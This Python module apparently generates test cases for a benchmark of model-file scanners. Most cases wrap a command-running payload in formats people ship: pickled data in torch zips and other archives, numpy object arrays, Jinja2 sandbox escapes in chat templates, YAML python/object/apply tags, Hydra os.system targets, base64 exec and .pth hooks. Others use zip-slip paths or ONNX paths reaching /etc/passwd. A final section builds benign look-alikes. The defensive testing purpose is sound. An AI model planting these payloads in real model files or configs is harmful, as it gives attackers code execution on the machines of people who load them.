"""Payloads in the containers and formats that people ship: archives that readers read differently, texts.

Written by hand, with the standard library alone; ``saved`` writes what needs the frameworks' own savers.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from benchmarks.inspect.corpus.assemble import call, name, program, push
from benchmarks.inspect.corpus.cases import COMMAND, PYTHON, Case
from benchmarks.inspect.corpus.gadgets import OTHER

HONEST = pickle.dumps({"epoch": 3, "loss": 0.25}, 2)
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('" + COMMAND + "').read() }}"
SOURCE = f"import os\nos.system({COMMAND!r})\n\nclass Net:\n    pass\n"


def cases() -> Iterator[Case]:
    for made in (_zips(), _archives(), _arrays(), _configs(), _sources()):
        yield from made


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for member, data in members:
            archive.writestr(zipfile.ZipInfo(member, (2026, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def torch_zip(pickled: bytes = OTHER, method: int = zipfile.ZIP_STORED, *more: tuple[str, bytes]) -> bytes:
    members = (("archive/data.pkl", pickled), ("archive/byteorder", b"little"), *more, ("archive/version", b"3\n"))
    return zipped(*members, method=method)


def _case(family: str, key: str, loader: str, file: str, data: bytes) -> Case:
    return Case(f"{family}-{key}", "malicious", family, loader, ((file, data),))


def _flags(archive: bytes, bit: int, everywhere: bool) -> bytes:
    """Set a general-purpose bit of every member, in the central directory or in both places."""
    out = bytearray(archive)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 8] |= bit
        at = out.find(b"PK\x01\x02", at + 4)
    at = out.find(b"PK\x03\x04") if everywhere else -1
    while at >= 0:
        out[at + 6] |= bit
        at = out.find(b"PK\x03\x04", at + 4)
    return bytes(out)


def _zips() -> Iterator[Case]:
    plain = torch_zip()
    crc = zlib.crc32(OTHER).to_bytes(4, "little")
    first = plain.find(b"PK\x03\x04")
    local = plain[: first + 14] + b"\1\2\3\4" + plain[first + 18 :]
    renamed = plain.replace(b"archive/data.pkl", b"archive/data.txt", 1)
    made = {
        "plain": plain,
        "deflated": torch_zip(OTHER, zipfile.ZIP_DEFLATED),
        "bad-crc-both": plain.replace(crc, b"\1\2\3\4"),
        "bad-crc-local": local,
        "flag-encrypted-central": _flags(plain, 1, False),
        "flag-encrypted-both": _flags(plain, 1, True),
        "flag-strong-encryption": _flags(plain, 0x40, True),
        "local-name-differs": renamed,
        "prepended": b"\0" * 100 + plain,
        "prepended-image": b"\x89PNG\r\n\x1a\n" + bytes(64) + plain,
        "prepended-pickle": HONEST + plain,
        "appended": plain + b"\0" * 30,
        "duplicate-evil-first": torch_zip(OTHER, zipfile.ZIP_STORED, ("archive/data.pkl", HONEST)),
        "duplicate-evil-last": torch_zip(HONEST, zipfile.ZIP_STORED, ("archive/data.pkl", OTHER)),
        "case-collision": torch_zip(HONEST, zipfile.ZIP_STORED, ("archive/DATA.PKL", OTHER)),
        "constants": torch_zip(HONEST, zipfile.ZIP_STORED, ("archive/constants.pkl", OTHER)),
        "other-folder": zipped(("m/data.pkl", OTHER), ("m/version", b"3\n")),
        "truncated-tail": plain[:-4],
        "empty-extra": plain,
    }
    for key, data in made.items():
        yield _case("torch", key, "torch", "model.pt", data)
    for suffix in ("safetensors", "bin", "ckpt", "txt", "png", "dat", "pth", "onnx"):
        yield _case("torch", f"named-{suffix}", "torch", f"model.{suffix}", plain)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    system = pickle.dumps({"little_endian": True, "protocol_version": 1001, "type_sizes": {}}, 2)
    yield _case("torch", "legacy", "torch", "model.pt", magic + system + OTHER)
    yield _case("torch", "legacy-first", "torch", "model.pt", OTHER)
    yield _case("torch", "legacy-system-info", "torch", "model.pt", magic + OTHER)
    yield _case("torch", "legacy-keys", "torch", "model.pt", magic + system + HONEST + OTHER)


def tarred(*members: tuple[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for member, data in members:
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _archives() -> Iterator[Case]:
    inner = zipped(("weights/model.pkl", OTHER))
    yield _case("archive", "zip", "zip", "bundle.zip", inner)
    yield _case("archive", "zip-in-zip", "zip", "bundle.zip", zipped(("inner.zip", inner)))
    yield _case("archive", "zip-in-zip-in-zip", "zip", "bundle.zip", zipped(("a.zip", zipped(("b.zip", inner)))))
    yield _case("archive", "zip-as-text", "zip", "bundle.zip", zipped(("readme.txt", OTHER)))
    yield _case("archive", "zip-bzip2", "zip", "bundle.zip", zipped(("m.pkl", OTHER), method=zipfile.ZIP_BZIP2))
    yield _case("archive", "zip-lzma", "zip", "bundle.zip", zipped(("m.pkl", OTHER), method=zipfile.ZIP_LZMA))
    yield _case("archive", "mar", "zip", "model.mar", zipped(("MAR-INF/MANIFEST.json", b"{}"), ("model.pkl", OTHER)))
    yield _case("archive", "nemo", "tar", "model.nemo", tarred(("model_config.yaml", b"a: 1\n"), ("m.ckpt", OTHER)))
    for mode in ("gz", "bz2", "xz"):
        yield _case("archive", f"tar-{mode}", "tar", f"bundle.tar.{mode}", tarred(("m.pkl", OTHER), mode=f"w:{mode}"))
    yield _case("archive", "tar-with-zip", "tar", "bundle.tar", tarred(("inner.zip", inner)))
    yield _case("archive", "gzip", "gzip-pickle", "model.pkl.gz", gzip.compress(OTHER, mtime=0))
    yield _case("archive", "gzip-unnamed", "gzip-pickle", "model.bin", gzip.compress(OTHER, mtime=0))
    yield _case(
        "archive", "gzip-two-members", "gzip-pickle", "m.gz", gzip.compress(OTHER[:9]) + gzip.compress(OTHER[9:])
    )
    yield _case("archive", "gzip-junk-after", "gzip-pickle", "model.pkl.gz", gzip.compress(OTHER, mtime=0) + b"xx")
    yield _case("archive", "zip-slip", "extract-zip", "bundle.zip", zipped(("../../ww-marker", b"x")))
    yield _case("archive", "tar-slip", "extract-tar", "bundle.tar", tarred(("../../ww-marker", b"x")))
    packed = {
        "gz": gzip.compress(OTHER),
        "bz2": bz2.compress(OTHER),
        "xz": lzma.compress(OTHER),
        "z": zlib.compress(OTHER),
    }
    packed["lzma"] = lzma.compress(OTHER, lzma.FORMAT_ALONE)
    for key, data in packed.items():
        yield _case("joblib", key, "joblib", f"model.joblib.{key}", data)
        yield _case("joblib", f"{key}-plain-name", "joblib", "model.joblib", data)
        yield _case("pandas", key, "pandas", f"frame.pkl.{key}" if key not in ("z", "lzma") else "frame.pkl", data)
    yield _case("joblib", "plain", "joblib", "model.joblib", OTHER)


def npy(data: bytes, header: str = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", major: int = 1) -> bytes:
    padded = header.encode() + b" " * (117 - len(header)) + b"\n"
    size = struct.pack("<H" if major == 1 else "<I", len(padded))
    return b"\x93NUMPY" + bytes([major, 0]) + size + padded + data


def _arrays() -> Iterator[Case]:
    yield _case("numpy", "object-array", "numpy", "weights.npy", npy(OTHER))
    yield _case("numpy", "object-array-v2", "numpy", "weights.npy", npy(OTHER, major=2))
    yield _case("numpy", "object-array-v3", "numpy", "weights.npy", npy(OTHER, major=3))
    shape0 = "{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    yield _case("numpy", "object-scalar", "numpy", "weights.npy", npy(OTHER, shape0))
    field = "{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }"
    yield _case("numpy", "object-in-struct", "numpy", "weights.npy", npy(OTHER, field))
    yield _case("numpy", "pickle-named-npy", "numpy", "weights.npy", OTHER)
    yield _case("numpy", "npz-object", "npz", "weights.npz", zipped(("a.npy", npy(OTHER))))
    yield _case(
        "numpy", "npz-deflated", "npz", "weights.npz", zipped(("a.npy", npy(OTHER)), method=zipfile.ZIP_DEFLATED)
    )
    many = [
        (f"a{i}.npy", npy(b"\0" * 8, "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }")) for i in range(9)
    ]
    yield _case("numpy", "npz-last-of-ten", "npz", "weights.npz", zipped(*many, ("z.npy", npy(OTHER))))
    yield _case("numpy", "npz-odd-name", "npz", "weights.npz", zipped(("weights.bin", npy(OTHER))))


def _configs() -> Iterator[Case]:  # long: one table, read as one
    """Text that a loader obeys."""
    lower = "{% for x in ().__class__.__base__.__subclasses__() %}{% if x.__name__ == 'catch_warnings' %}"
    lower += "{{ x()._module.__builtins__['__import__']('os').system('" + COMMAND + "') }}{% endif %}{% endfor %}"
    attr = "{{ (cycler|attr('__in'~'it__')|attr('__glo'~'bals__'))['os'].popen('" + COMMAND + "').read() }}"
    hexed = (
        "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f']['os'].popen('" + COMMAND + "').read() }}"
    )
    for key, text in {"globals": ESCAPE, "subclasses": lower, "attr-filter": attr, "escaped": hexed}.items():
        text = "{% for m in messages %}{{ m.content }}{% endfor %}" + text
        config = json.dumps({"model_max_length": 512, "chat_template": text}).encode()
        yield _case("template", f"jinja-{key}", "jinja", "chat_template.jinja", text.encode())
        yield _case("template", f"tokenizer-{key}", "json-template", "tokenizer_config.json", config)
        yield _case("template", f"gguf-{key}", "gguf", "model.gguf", gguf({"tokenizer.chat_template": text}))
    tags = {
        "apply": f"!!python/object/apply:os.system ['{COMMAND}']\n",
        "nested": f"model:\n  name: x\n  hook: !!python/object/apply:subprocess.check_output [[sh, -c, '{COMMAND}']]\n",
        "new": f"!!python/object/new:subprocess.Popen [[sh, -c, '{COMMAND}']]\n",
        "short-form": "%TAG !p! tag:yaml.org,2002:python/\n---\n" + f"!p!object/apply:os.system ['{COMMAND}']\n",
        "module": "x: !!python/module:antigravity\n",
    }
    for key, text in tags.items():
        yield _case("yaml", key, "yaml", "config.yaml", text.encode())
    hydra = f"_target_: os.system\n_args_: ['{COMMAND}']\n"
    yield _case("hydra", "system", "hydra", "config.yaml", hydra.encode())
    popen = "_target_: subprocess.check_output\n_args_: [[sh, -c, '" + COMMAND + "']]\n"
    yield _case(
        "hydra",
        "nested",
        "hydra",
        "config.yaml",
        ("net:\n" + "".join(f"  {line}\n" for line in popen.splitlines())).encode(),
    )
    yield _case("hydra", "eval", "hydra", "config.yaml", f'_target_: builtins.exec\n_args_: ["{PYTHON}"]\n'.encode())
    config = json.dumps({"model_type": "net", "auto_map": {"AutoModel": "modeling_net.Net"}}).encode()
    files = (("config.json", config), ("modeling_net.py", SOURCE.encode()))
    yield Case("folder-auto-map", "malicious", "folder", "auto-map", files)
    deep = (
        ("config.json", config),
        ("modeling_net.py", b'from os import system as s\ns("' + COMMAND.encode() + b'")\nclass Net: ...\n'),
    )
    yield Case("folder-auto-map-alias", "malicious", "folder", "auto-map", deep)


def _sources() -> Iterator[Case]:  # long: one table, read as one
    yield _case("python", "import-time", "python", "modeling.py", SOURCE.encode())
    yield _case(
        "python",
        "exec-base64",
        "python",
        "modeling.py",
        f"import base64\nexec(base64.b64decode({_b64(PYTHON)!r}))\n".encode(),
    )
    yield _case(
        "python",
        "getattr",
        "python",
        "modeling.py",
        f"getattr(__import__('o'+'s'), 'sys'+'tem')({COMMAND!r})\n".encode(),
    )
    yield _case("python", "sitecustomize", "python", "sitecustomize.py", SOURCE.encode())
    yield _case("python", "pth", "pth", "net.pth", f"import os; os.system({COMMAND!r})\n".encode())
    cell = {
        "cell_type": "code",
        "source": [f"!{COMMAND}\n", "import os; os.system('id')"],
        "outputs": [],
        "metadata": {},
    }
    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    yield _case(
        "notebook",
        "shell",
        "none",
        "demo.ipynb",
        json.dumps({**book, "cells": [{**cell, "execution_count": None}]}).encode(),
    )
    yield _case("native", "elf", "none", "libnet.so", b"\x7fELF\x02\x01\x01" + bytes(57) + b"/bin/sh")
    yield _case(
        "mlflow",
        "loader-module",
        "none",
        "MLmodel",
        b"flavors:\n  python_function:\n    loader_module: os\n    data: model.pkl\n",
    )
    external = _onnx_external("../../../etc/passwd")
    yield _case("onnx", "external-traversal", "onnx", "model.onnx", external)
    yield _case("onnx", "external-absolute", "onnx", "model.onnx", _onnx_external("/etc/passwd"))
    for key, op in (("read-file", b"ReadFile"), ("write-file", b"WriteFile"), ("py-func", b"PyFunc")):
        node = _field(1, _field(1, b"n") + _field(2, op))
        graph = _field(2, _field(1, _field(4, b"serve")) + _field(2, node))
        files = (("saved_model.pb", b"\x08\x01" + graph), ("variables/variables.index", b""))
        yield Case(f"savedmodel-{key}", "malicious", "savedmodel", "none", files)
    layer = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": _b64("x")}}},
    }
    keras = {"class_name": "Sequential", "config": {"layers": [layer]}, "module": "keras"}
    parts = (
        ("metadata.json", b'{"keras_version": "3.9.0"}'),
        ("config.json", json.dumps(keras).encode()),
        ("model.weights.h5", b""),
    )
    yield _case("keras", "lambda-by-hand", "keras-unsafe", "model.keras", zipped(*parts))
    attack = {"class_name": "function", "config": "system", "module": "os", "registered_name": "system"}
    keras["config"] = {
        "layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": attack}}]
    }
    parts = (
        ("metadata.json", b'{"keras_version": "3.9.0"}'),
        ("config.json", json.dumps(keras).encode()),
        ("model.weights.h5", b""),
    )
    yield _case("keras", "module-os", "keras-unsafe", "model.keras", zipped(*parts))
    schema = {
        "__class__": "function",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "content": "system",
        "__id__": 1,
    }
    yield _case(
        "skops",
        "function",
        "skops",
        "model.skops",
        zipped(("schema.json", json.dumps({**schema, "protocol": 2}).encode())),
    )


def _b64(text: str) -> str:
    import base64

    return base64.b64encode(text.encode()).decode()


def _field(number: int, value: bytes) -> bytes:
    if len(value) > 127:
        raise ValueError("one length byte is all that is written here")
    return bytes([number << 3 | 2, len(value)]) + value


def _onnx_external(location: str) -> bytes:
    entry = _field(13, _field(1, b"location") + _field(2, location.encode()))
    tensor = b"\x08\x01\x10\x01" + _field(8, b"w") + entry + b"\x70\x01"
    graph = _field(2, b"main") + _field(5, tensor)
    return b"\x08\x08" + _field(2, b"net") + _field(7, graph) + _field(8, b"\x10\x11")


def gguf(texts: dict[str, str]) -> bytes:
    """A GGUF file of version 3: metadata strings, no tensor."""
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(texts))
    for key, value in texts.items():
        data = value.encode()
        out += struct.pack("<Q", len(key)) + key.encode() + struct.pack("<IQ", 8, len(data)) + data
    return out + bytes(-len(out) % 32)


def lookalikes() -> Iterator[Case]:
    """Honest files that a list of words would stop."""

    def benign(key: str, loader: str, file: str, data: bytes) -> Case:
        return Case(f"lookalike-{key}", "lookalike", "look-alike", loader, ((file, data),))

    words = {
        "os.system": "posix system",
        "note": "call subprocess.Popen, eval( and exec(; cposix\nsystem\n",
        "b": b"cos\nsystem\n(",
    }
    yield benign("words-in-strings", "pickle", "notes.pkl", pickle.dumps(words, 4))
    yield benign("words-protocol-0", "pickle", "notes.pkl", pickle.dumps({"a": "os.system('x')"}, 0))
    yield benign(
        "vocabulary",
        "json",
        "vocab.json",
        json.dumps({w: i for i, w in enumerate(["eval", "exec", "os", "system", "__import__"])}).encode(),
    )
    yield benign(
        "unknown-class",
        "pickle",
        "model.pkl",
        program(push_object("acme.models", "Detector", {"weights": [0.5], "name": "d"})),
    )
    chat = "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"
    chat += "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}"
    tools = "{%- set ns = namespace(found=false) -%}{%- for m in messages -%}"
    tools += "{%- if m.role == 'system' -%}{%- set ns.found = true -%}{{ m.content | trim }}{%- endif -%}{%- endfor -%}"
    for key, text in {"chat": chat, "namespace": tools}.items():
        yield benign(f"template-{key}", "jinja", "chat_template.jinja", text.encode())
        yield benign(
            f"tokenizer-{key}", "json-template", "tokenizer_config.json", json.dumps({"chat_template": text}).encode()
        )
        yield benign(f"gguf-{key}", "gguf", "model.gguf", gguf({"general.name": "x", "tokenizer.chat_template": text}))
    yield benign("plain-yaml", "yaml", "config.yaml", b"model:\n  name: eval\n  system: os\n  tags: ['!!python']\n")
    yield benign("torch-zip", "torch", "model.pt", torch_zip(HONEST))
    yield benign("npy", "numpy", "a.npy", npy(b"\0" * 8, "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }"))
    yield benign("concatenated", "pickles", "log.pkl", HONEST * 5)
    yield benign(
        "readme",
        "text",
        "README.md",
        b"# Model\n\nNever call `os.system` or `eval(...)` on it. See http://example.org/model.\n",
    )
    yield benign(
        "python",
        "python",
        "modeling.py",
        b"import math\n\n\nclass Net:\n    def forward(self, x):\n        return math.tanh(x)\n",
    )
    yield benign("tar", "tar", "bundle.tar", tarred(("a.json", b"{}"), ("b.pkl", HONEST)))
    yield benign(
        "partial-of-max", "pickle", "model.pkl", program(call(name("functools", "partial"), name("builtins", "max")))
    )
    yield benign("attrgetter", "pickle", "model.pkl", program(call(name("operator", "attrgetter"), "score")))
    yield benign(
        "path-object", "pickle", "run.pkl", program(push({"out": call(name("pathlib", "PosixPath"), "runs", "3")}))
    )


def push_object(module: str, cls: str, state: dict[str, object]) -> bytes:
    return name(module, cls) + b")\x81" + push(state) + b"b"
